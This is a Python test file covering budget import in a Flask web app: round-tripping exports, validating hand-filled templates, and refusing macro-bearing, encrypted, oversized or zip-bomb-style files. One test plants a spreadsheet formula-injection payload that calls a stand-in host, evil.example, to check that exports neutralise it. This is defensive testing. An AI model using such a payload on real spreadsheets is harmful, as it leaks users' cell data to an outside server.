"""Importing a budget from a file: an export comes back cell by cell, a hand-filled template
imports, every problem is reported at once by sheet, row and cell with nothing stored, and files
that are too large, encrypted, macro-bearing or no workbook at all are refused with a clear
message. One import is one event and one audit entry."""

from __future__ import annotations

import html
import io
import re
import zipfile
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from adapters.bootstrap import System
from adapters.budget_import import MAX_FILE, OLE_SIGNATURE
from adapters.budget_workbook import TABLE_ROW
from adapters.demo import DemoPlan
from domain.budgets import Budget
from domain.context import acting_as
from domain.plans import Plan
from projections import queries
from projections.tables import audit_log
from tests.e2e.auth_helpers import DEMO_EMAILS, csrf_token, sign_in
from tests.e2e.demo_years import Y1, Y2


@pytest.fixture
def anna(app: Flask) -> FlaskClient:
    client = app.test_client()
    client.get("/sign-in?lang=en")
    assert sign_in(client, DEMO_EMAILS["Anna Berg"]).status_code == 302
    return client


def _import(client: FlaskClient, plan_id: str, body: bytes, name: str = "budget.xlsx",
            **form: str) -> Any:
    token = csrf_token(client, f"/plans/{plan_id}/budgets/import")
    return client.post(f"/plans/{plan_id}/budgets/import?lang=en", content_type="multipart/form-data",
                       data={"file": (io.BytesIO(body), name), "csrf_token": token, **form})


def _stored(system: System) -> int:
    return system.app.recorder.max_notification_id() or 0


def _text(reply: Any) -> str:
    return html.unescape(reply.get_data(as_text=True))


def _cells(body: bytes) -> list[list[list[Any]]]:
    book = load_workbook(io.BytesIO(body))
    return [[[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets]


def _wait(system: System) -> None:
    system.projections.wait(system.app.recorder.max_notification_id(), timeout=10)


def _new_budget(reply: Any) -> str:
    assert reply.status_code == 302, _text(reply)[:2000]
    return reply.headers["Location"].rsplit("/", 1)[-1]


def test_an_exported_budget_imported_into_a_new_budget_exports_the_same_cells(
        anna: FlaskClient, demo: DemoPlan, demo_system: System) -> None:
    exported = anna.get(f"/budgets/{demo.budget_id}/export.xlsx?lang=sv").get_data()
    before = _stored(demo_system)
    budget_id = _new_budget(_import(anna, demo.plan_id, exported))
    assert _stored(demo_system) == before + 1  # the whole import is one event
    again = anna.get(f"/budgets/{budget_id}/export.xlsx?lang=sv").get_data()
    old, new = _cells(exported), _cells(again)
    assert len(old) == len(new) == 2
    for sheet_old, sheet_new in zip(old, new, strict=True):
        # The header block names the budget and its plan alike; its revision, status, change
        # no. and history digest are the new budget's own (a draft at change no. 1).
        assert sheet_old[:2] == sheet_new[:2]
        assert sheet_old[TABLE_ROW - 1:] == sheet_new[TABLE_ROW - 1:]
        assert len(sheet_old) > TABLE_ROW + 3
    budget = demo_system.app.load(Budget, budget_id)
    assert budget.status == "draft" and budget.version == 1


def test_the_csv_export_imports_too(anna: FlaskClient, demo: DemoPlan, demo_system: System) -> None:
    exported = anna.get(f"/budgets/{demo.budget_id}/export.csv?lang=nb").get_data()
    budget_id = _new_budget(_import(anna, demo.plan_id, exported, "budget.csv", title="Fra CSV"))
    _wait(demo_system)
    with demo_system.engine.connect() as conn:
        old = queries.budget_sheet(conn, demo.budget_id)
        new = queries.budget_sheet(conn, budget_id)
    assert new.budget["title"] == "Fra CSV"
    assert [(ln["label"], ln["category"], ln["kind"], ln["total"]) for ln in new.lines] == [
        (ln["label"], ln["category"], ln["kind"], ln["total"]) for ln in old.lines]
    assert (new.costs, new.income, new.net) == (old.costs, old.income, old.net)
    assert [sorted((a, v["share"]) for a, v in ln["shares"].items() if v["share"])
            for ln in new.lines] == [sorted((a, v["share"]) for a, v in ln["shares"].items()
                                            if v["share"]) for ln in old.lines]


def _template(anna: FlaskClient, plan_id: str) -> Workbook:
    reply = anna.get(f"/plans/{plan_id}/budgets/template.xlsx?lang=sv")
    assert reply.status_code == 200 and reply.headers["Content-Disposition"].endswith(
        'filename="budget-template.xlsx"')
    return load_workbook(io.BytesIO(reply.get_data()))


def _save(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_hand_filled_template_imports_with_its_amounts_and_shares(
        anna: FlaskClient, demo: DemoPlan, demo_system: System) -> None:
    book = _template(anna, demo.plan_id)
    ws = book.worksheets[0]
    heads = [c.value for c in ws[1]]
    assert heads[:4] == ["Budgetpost", "Kategori", "Typ", Y1]
    org = next(a for a in demo_system.app.load(Plan, demo.plan_id).actors.values() if not a["left"])
    column = heads.index(org["name"]) + 1
    y1, y2 = heads.index(Y1) + 1, heads.index(Y2) + 1
    ws.cell(2, 1, "=Lokalhyra")  # typed as text into a cell: a formula is refused below
    ws.cell(2, 1).data_type = "s"
    ws.cell(2, 2, "Lokal")
    ws.cell(2, y1, 52000)
    ws.cell(2, y2, "12 500,50")
    ws.cell(2, column, "25 %")
    ws.cell(3, 1, "Bidrag från Leader")
    ws.cell(3, 3, "Intäkt")
    ws.cell(3, y1, 10000.5)
    ws.cell(3, column, 0.5)
    before = _stored(demo_system)
    budget_id = _new_budget(_import(anna, demo.plan_id, _save(book), "mall.xlsx"))
    assert _stored(demo_system) == before + 1
    budget = demo_system.app.load(Budget, budget_id)
    assert budget.title == "mall"
    rent, grant = (budget.lines[i] for i in budget.order)
    assert rent["label"]["value"] == "=Lokalhyra" and rent["category"]["value"] == "Lokal"
    assert rent["amounts"][str(Y1)]["value"] == 5_200_000
    assert rent["amounts"][str(Y2)]["value"] == 1_250_050
    assert rent["shares"][_actor(demo_system, demo.plan_id, org["name"])]["value"] == 2500
    assert grant["kind"]["value"] == "income" and grant["amounts"][str(Y1)]["value"] == 1_000_050
    _wait(demo_system)
    with demo_system.engine.connect() as conn:
        entries = conn.execute(select(audit_log.c.event_type).where(
            audit_log.c.aggregate_id == budget_id)).all()
    assert [e.event_type for e in entries] == ["Created"]
    trail = _text(anna.get(f"/plans/{demo.plan_id}/audit?lang=en"))
    assert "imported 2 lines from mall.xlsx into the new budget" in trail


def _actor(system: System, plan_id: str, name: str) -> str:
    return next(a for a, v in system.app.load(Plan, plan_id).actors.items() if v["name"] == name)


def test_five_wrong_cells_are_all_reported_and_nothing_is_stored(
        anna: FlaskClient, demo: DemoPlan, demo_system: System) -> None:
    book = load_workbook(io.BytesIO(anna.get(
        f"/budgets/{demo.budget_id}/export.xlsx?lang=en").get_data()))
    ws = book.worksheets[0]
    heads = [c.value for c in ws[TABLE_ROW]]
    shared = heads.index("Shared") + 1
    ws.cell(9, 4, "many")  # D9: not an amount
    ws.cell(10, 5, -5)  # E10: negative
    ws.cell(11, 1).value = None  # A11: a line without a name
    ws.cell(TABLE_ROW, shared - 1, "Okänd förening")  # an organisation not in the plan
    ws.cell(12, 3, "Gift")  # C12: neither cost nor income
    ws.cell(13, shared - 1, "lots")  # (that column is unknown now: no second report)
    before = _stored(demo_system)
    reply = _import(anna, demo.plan_id, _save(book))
    assert reply.status_code == 422
    page = _text(reply)
    sheet = ws.title
    for expected in (
            f"Sheet “{sheet}”, row 9, cell D9: Write an amount in kronor, for example 52 000.",
            f"Sheet “{sheet}”, row 10, cell E10: Write an amount in kronor, for example 52 000.",
            f"Sheet “{sheet}”, row 11, cell A11: Line name must not be empty.",
            f"Sheet “{sheet}”, row 12, cell C12: Write the type as cost or income",
            f"Sheet “{sheet}”, row {TABLE_ROW}, cell",
            "“Okänd förening” is not an organisation of this plan."):
        assert expected in page, re.findall(r"<li>(.*?)</li>", page)
    assert "correct these 5 problems" in page
    assert _stored(demo_system) == before


def test_the_problems_read_in_swedish_for_a_swedish_reader(
        anna: FlaskClient, demo: DemoPlan, demo_system: System) -> None:
    book = _template(anna, demo.plan_id)
    book.worksheets[0].cell(2, 1, "Hyra")
    book.worksheets[0].cell(2, 4, "mycket")
    anna.get("/?lang=sv")
    token = csrf_token(anna, f"/plans/{demo.plan_id}/budgets/import")
    reply = anna.post(f"/plans/{demo.plan_id}/budgets/import?lang=sv",
                      content_type="multipart/form-data",
                      data={"file": (io.BytesIO(_save(book)), "b.xlsx"), "csrf_token": token})
    assert reply.status_code == 422
    assert "rad 2, cell D2" in _text(reply)


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(("body", "name", "says"), [
    (OLE_SIGNATURE + b"\0" * 600, "budget.xlsx", "encrypted or in the old Excel format"),
    (_zip({"[Content_Types].xml": b"<Types/>", "xl/vbaProject.bin": b"macro"}), "budget.xlsx",
     "contains macros"),
    (_zip({"[Content_Types].xml": b'<Default ContentType="application/vnd.ms-excel.sheet.'
                                  b'macroEnabled.main+xml"/>'}), "budget.xlsm", "contains macros"),
    (_zip({"[Content_Types].xml": b"<Types/>", "xl/big.xml": b"\0" * (60 * 1024 * 1024)}),
     "budget.xlsx", "unpacks to more than 50 MB"),
    (b"PK\x03\x04 not really a zip", "budget.xlsx", "could not be read as an Excel workbook"),
    (_zip({"[Content_Types].xml": b"<Types/>"}), "budget.xlsx", "could not be read"),
    (b"just some words", "budget.txt", "could not be read"),
    (b"", "budget.csv", "The file is empty"),
    (b"a" * (MAX_FILE + 1), "budget.csv", "larger than 5 MB"),
])
def test_a_file_that_is_no_plain_workbook_is_refused_with_a_clear_message(
        anna: FlaskClient, demo: DemoPlan, demo_system: System, body: bytes, name: str,
        says: str) -> None:
    before = _stored(demo_system)
    reply = _import(anna, demo.plan_id, body, name)
    assert reply.status_code == 422, reply.status_code
    assert says in _text(reply)
    assert _stored(demo_system) == before


def test_a_body_over_the_upload_limit_is_refused_before_it_is_read(
        anna: FlaskClient, demo: DemoPlan, demo_system: System) -> None:
    reply = _import(anna, demo.plan_id, b"a" * (MAX_FILE + 64 * 1024), "budget.csv")
    assert reply.status_code == 413
    # Any other form still takes at most its own small limit.
    token = csrf_token(anna, f"/plans/{demo.plan_id}/budgets/import")
    other = anna.post(f"/plans/{demo.plan_id}/budgets", data={
        "csrf_token": token, "title": "x" * (2 * 1024 * 1024)})
    assert other.status_code == 413


def test_only_a_facilitator_imports(app: Flask, demo: DemoPlan, demo_system: System) -> None:
    client = app.test_client()
    client.get("/sign-in?lang=en")
    names = [n for n in DEMO_EMAILS if n != "Anna Berg"]
    assert sign_in(client, DEMO_EMAILS[names[0]]).status_code == 302
    assert client.get(f"/plans/{demo.plan_id}/budgets/import").status_code == 403
    assert client.get(f"/plans/{demo.plan_id}/budgets/template.xlsx").status_code == 403


def test_another_session_on_the_plan_page_sees_the_imported_budget(
        anna: FlaskClient, app: Flask, demo: DemoPlan, demo_system: System) -> None:
    other = app.test_client()
    other.get("/sign-in?lang=en")
    names = [n for n in DEMO_EMAILS if n != "Anna Berg"]
    assert sign_in(other, DEMO_EMAILS[names[0]]).status_code == 302
    assert "Importerad" not in _text(other.get(f"/plans/{demo.plan_id}"))
    exported = anna.get(f"/budgets/{demo.budget_id}/export.xlsx?lang=sv").get_data()
    budget_id = _new_budget(_import(anna, demo.plan_id, exported, title="Importerad"))
    page = _text(other.get(f"/plans/{demo.plan_id}"))
    assert "Importerad" in page and budget_id in page


def _lines_csv(count: int) -> bytes:
    rows = [f"Budgetpost;Kategori;Typ;{Y1}"] + [f"Rad {i};Drift;Kostnad;{1000 + i}" for i in range(count)]
    return "\r\n".join(rows).encode()


def test_a_budget_of_the_most_lines_imports_and_one_more_line_is_refused(
        anna: FlaskClient, demo: DemoPlan, demo_system: System) -> None:
    before = _stored(demo_system)
    reply = _import(anna, demo.plan_id, _lines_csv(1_001), "stor.csv")
    assert reply.status_code == 422
    assert "row 1002, cell A1002: A budget has at most 1000 lines." in _text(reply)
    assert _stored(demo_system) == before
    budget_id = _new_budget(_import(anna, demo.plan_id, _lines_csv(1_000), "stor.csv"))
    assert len(demo_system.app.load(Budget, budget_id).order) == 1_000
    assert _stored(demo_system) == before + 1


def test_text_the_export_neutralised_comes_back_as_it_was_and_a_formula_amount_is_refused(
        anna: FlaskClient, demo: DemoPlan, demo_system: System) -> None:
    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    with demo_system.engine.connect() as conn:
        first = queries.budget_sheet(conn, demo.budget_id).lines[0]["line_id"]
    anna_id = next(p.person_id for p in demo.people if p.name.startswith("Anna"))
    with acting_as(anna_id):
        demo_system.app.rename_line(demo.budget_id, first, hyperlink)
    _wait(demo_system)
    exported = anna.get(f"/budgets/{demo.budget_id}/export.xlsx?lang=en").get_data()
    assert _cells(exported)[0][TABLE_ROW][0] == "'" + hyperlink
    budget_id = _new_budget(_import(anna, demo.plan_id, exported))
    budget = demo_system.app.load(Budget, budget_id)
    assert budget.lines[budget.order[0]]["label"]["value"] == hyperlink
    book = load_workbook(io.BytesIO(exported))
    book.worksheets[0].cell(TABLE_ROW + 1, 4).value = "=1+1"
    reply = _import(anna, demo.plan_id, _save(book))
    assert reply.status_code == 422
    assert f"cell D{TABLE_ROW + 1}: Write an amount in kronor" in _text(reply)
